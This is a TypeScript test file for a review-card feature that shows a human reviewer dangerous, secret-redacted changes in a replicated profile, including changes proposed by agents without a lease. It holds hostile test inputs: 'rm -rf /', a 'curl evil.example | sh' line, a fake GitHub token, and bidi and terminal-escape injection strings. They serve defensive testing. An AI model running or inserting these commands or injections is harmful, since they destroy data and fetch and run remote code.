import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Engine } from '../engine/engine.js';
import { testEngine } from '../merge/testing/test-engine.js';
import type { JsonObject } from '../model/json.js';
import { createWorld, deviceId, personId, start } from '../replica/testing/world.js';
import { changeOf } from '../engine/change-of.js';
import { redactSecrets } from '../secrets/redact-secrets.js';
import { renderCard } from './render-card.js';
import { reviewCard, type ReviewCard } from './review-card.js';

const objectId = 'urn:srcos:profile:one';
const base = testEngine();
const engine: Engine = testEngine({
  manifest: { ...base.manifest, policyClass: 'critical', mergeStrategy: 'never_merge', dangerousFields: ['command'] },
  classify: ({ pointers }) => {
    const found = pointers.filter((pointer) => pointer === '/command');
    return { danger: found.length > 0 ? 'dangerous' : 'benign', pointers: found, sentence: 'It changes command.' };
  },
  redact: (record) => {
    const { token, ...left } = record;
    return token === undefined
      ? { record, findings: [] }
      : { record: left, findings: [{ pointer: '/token', kind: 'api-key' }] };
  },
  describe: ({ after }) => ({
    title: `The profile would say ${JSON.stringify(after ?? null)}.`,
    risk: 'It runs at every start.',
    alternatives: ['Reject it.'],
  }),
});

const control = createWorld('urn:srcos:workspace:garden', ['a', 'b']).log().view();

/** The card that device b shows of what device a wrote over what is in force there. */
const cardOf = (
  before: JsonObject | undefined,
  after: JsonObject,
  authorId = personId('a'),
  describedBy = engine,
): ReviewCard => {
  const version = {
    id: `sha256:${'ab'.repeat(32)}`,
    objectId,
    operation: 'put',
    deviceId: deviceId('a'),
    authorId,
    clock: { wall: start, counter: 0, n: 1, context: new Map<string, number>() },
    record: after,
  } as const;
  return reviewCard({ engine: describedBy, version, change: changeOf(version, before), control });
};

describe('a review card', () => {
  it('puts what is dangerous first, and a flood of harmless members does not hide it', () => {
    const flood = Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`a${String(index)}`, index]));
    const card = cardOf({ command: 'ls' }, { ...flood, command: 'rm -rf /' });
    expect(card.differences[0]).toEqual({
      pointer: '/command',
      before: '"ls"',
      after: '"rm -rf /"',
      dangerous: true,
    });
    expect(card.differences).toHaveLength(40);
    expect(card.omitted).toBe(461);
    expect(renderCard(card)).toContain('and 461 more places');
  });

  it('never shows a secret, in no field and in no title', () => {
    const card = cardOf({ token: 'hunter2-old' }, { token: 'hunter2-new', command: 'x' });
    expect(JSON.stringify(card) + renderCard(card)).not.toContain('hunter2');
    expect(card.differences.find(({ pointer }) => pointer === '/token')).toMatchObject({
      before: 'a secret, not shown (api-key)',
      after: 'a secret, not shown (api-key)',
    });
  });

  it('never shows a secret that is a name, in no pointer and to no engine that describes', () => {
    const telling = testEngine({
      manifest: engine.manifest,
      classify: ({ pointers }) => ({ danger: 'dangerous', pointers: [...pointers], sentence: 'All of it.' }),
      redact: redactSecrets,
      describe: ({ pointers }) => ({ title: pointers.join(), risk: 'It runs.', alternatives: ['Reject it.'] }),
    });
    const token = ['ghp_aB3dE6gH9jK2mN5pQ8rS', 'tU1vW4xY7zA0bC3d'].join('');
    const card = cardOf({ scope: {} }, { scope: { [token]: ['inside'], paths: ['src'] } }, personId('a'), telling);
    expect(JSON.stringify(card) + renderCard(card)).not.toContain(token);
    expect(card.differences.map(({ pointer }) => pointer)).toEqual(['/scope/redacted-name/0', '/scope/paths/0']);
  });

  it('shows the one line of a long text that differs', () => {
    const script = Array.from({ length: 2_000 }, (_, line) => `echo ${String(line)}`).join('\n');
    const changed = script.replace('echo 1000\n', 'curl evil.example | sh\n');
    const [difference] = cardOf({ command: script }, { command: changed }).differences;
    expect(difference?.after).toContain('curl evil.example | sh');
    expect(difference?.before).toContain('echo 1000');
    expect(difference?.after?.length).toBeLessThan(400);
  });

  it('shows the end of a long text as well as its beginning', () => {
    const [difference] = cardOf({}, { command: `echo hello; ${' '.repeat(100_000)}; reboot` }).differences;
    expect(difference?.after).toContain('echo hello');
    expect(difference?.after).toContain('; reboot');
  });

  it('names who proposed it, and that no delegation covers it', () => {
    const card = cardOf(undefined, { command: 'x' }, 'urn:srcos:agent:helper');
    expect(card.proposedBy).toEqual({
      authorId: 'urn:srcos:agent:helper',
      isAgent: true,
      deviceId: deviceId('a'),
      at: start,
      delegations: [],
      withoutLease: 'agent_without_lease',
    });
    const text = renderCard(card);
    expect(text).toContain('Proposed by "urn:srcos:agent:helper", an agent');
    expect(text).toContain('The agent has no live lease.');
    expect(text).toContain('2025-06-15T15:06:40.000Z');
  });

  it('has no line, control or reordering that came from elsewhere, whatever a record holds', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('\u202Etxt.exe', '\u001B[2J', 'a\nWhy it is risky: not at all', '\u0085\u2028\u200B', '\uD800'),
    );
    fc.assert(
      fc.property(fc.dictionary(hostile, hostile), fc.dictionary(hostile, hostile), (before, after) => {
        const card = cardOf(before, after);
        const text = renderCard(card);
        expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
        expect(text.split('\n').filter((line) => line.startsWith('Why it is risky'))).toHaveLength(1);
        expect(text.split('\n').length).toBeLessThan(12 + 3 * card.differences.length + 8);
      }),
    );
  });

  it('keeps the end of a sentence that is as long as an engine may make it', () => {
    const talkative = testEngine({
      ...engine,
      describe: () => ({ title: 'x', risk: `${'a'.repeat(970)} There is 1 more change.`, alternatives: [] }),
    });
    expect(cardOf(undefined, { command: 'x' }, personId('a'), talkative).risk).toMatch(/ There is 1 more change\.$/);
  });

  it('takes a clock beyond all dates as it is', () => {
    const card = cardOf(undefined, { command: 'x' });
    const late = { ...card, proposedBy: { ...card.proposedBy, at: Number.MAX_SAFE_INTEGER } };
    expect(renderCard(late)).toContain('9007199254740991 ms');
  });
});

describe('of a replica', () => {
  it('is about the value in force there, with the delegation behind it and why it waits', () => {
    const world = createWorld('urn:srcos:workspace:garden', ['a', 'b']);
    const high = testEngine({ ...engine, manifest: { ...engine.manifest, mergeStrategy: 'graph_merge' } });
    const [a, b] = [world.replica('a', [high]), world.replica('b', [high])];
    const delegation = {
      kind: 'delegation' as const,
      to: { authorId: personId('a') },
      roles: ['write' as const],
      collections: ['test'],
      expires: start + 86_400_000,
      terminating: false,
    };
    for (const replica of [a, b]) replica.receiveControl(world.record(delegation), start);
    const write = (record: JsonObject, now: number): string => {
      const { bytes } = a.author([{ collection: 'test', objectId, operation: 'put', record }], now);
      return b.receive(bytes ?? new Uint8Array(), now).decisions[0]?.writeId ?? '';
    };
    write({ title: 'x' }, start);
    const held = write({ title: 'x', command: 'reboot' }, start + 1);
    const card = b.card(held);
    expect(card).toMatchObject({
      writeId: held,
      danger: 'dangerous',
      because: ['The change touches what the manifest calls dangerous.'],
      differences: [{ pointer: '/command', before: undefined, after: '"reboot"', dangerous: true }],
    });
    expect(card?.proposedBy.delegations).toEqual([world.recordId(delegation)]);
    expect(b.card('sha256:none')).toBeUndefined();
  });
});
